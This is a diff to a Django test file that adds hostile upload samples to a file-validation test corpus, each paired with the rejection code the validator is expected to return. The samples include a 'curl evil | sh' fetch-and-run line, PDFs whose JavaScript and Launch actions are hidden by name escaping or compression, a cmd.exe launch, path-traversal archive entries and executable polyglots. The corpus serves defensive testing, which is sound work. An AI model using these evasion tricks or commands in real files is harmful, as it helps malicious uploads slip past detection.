@@ -9,6 +9,8 @@ import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 
 from tests.cases.conftest import GOOD_FORM, PDF
+from tests.documents import corpus
+from tests.documents.test_uploads import JPEG
 from tongban.cases.models import Case
 from tongban.documents.models import StoredFile
 
@@ -22,6 +24,7 @@ def _zip() -> bytes:
     return buffer.getvalue()
 
 
+OPENS = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"
 CORPUS = [
     ("申请书.pdf", b"MZ\x90\x00" + b"\x00" * 200, "file_executable"),  # disguised .exe
     ("申请书.pdf", b"#!/bin/sh\ncurl evil | sh\n", "file_executable"),
@@ -31,9 +34,33 @@ CORPUS = [
     (
         "active.pdf",
         PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript>>"),
-        "file_pdf_active",
+        "file_pdf_javascript",
     ),
     ("empty.pdf", b"", "file_empty"),
+    # judged by a parser (issue 9 item 5): what a byte search does not see
+    (
+        "escaped.pdf",
+        corpus.pdf({1: OPENS, 4: b"<</S/J#61vaScript/J#53(x)>>"}),
+        "file_pdf_javascript",
+    ),
+    (
+        "packed.pdf",
+        corpus.pdf({1: OPENS}, compressed={4: b"<</S/JavaScript/JS(x)>>"}),
+        "file_pdf_javascript",
+    ),
+    (
+        "launch.pdf",
+        corpus.pdf({1: OPENS, 4: b"<</S/L#61unch/F(cmd.exe)>>"}),
+        "file_pdf_launch",
+    ),
+    ("attached.pdf", corpus.attachment_pdf(), "file_pdf_embedded"),
+    ("locked.pdf", corpus.encrypted_pdf(), "file_pdf_encrypted"),
+    ("garbage.pdf", b"%PDF-1.7\nnot a PDF at all\n%%EOF\n", "file_pdf_malformed"),
+    ("证照.ofd", corpus.ofd({"Doc_0/../../evil.xml": b"<x/>"}), "file_ofd_entry_name"),
+    ("证照.ofd", corpus.ofd({"Doc_0/Res/update.exe": b"MZ"}), "file_ofd_executable"),
+    ("证照.ofd", corpus.zip_bytes({"OFD.xml": b"<ofd:OFD/>"}), "file_ofd_malformed"),
+    ("照片.jpg", JPEG + corpus.zip_bytes({"a.exe": b"MZ"}), "file_polyglot"),
+    ("申请书.pdf", corpus.pdf() + corpus.zip_bytes({"a.exe": b"MZ"}), "file_polyglot"),
     (
         "big.pdf",
         PDF + b" " * (11 * 1024 * 1024),
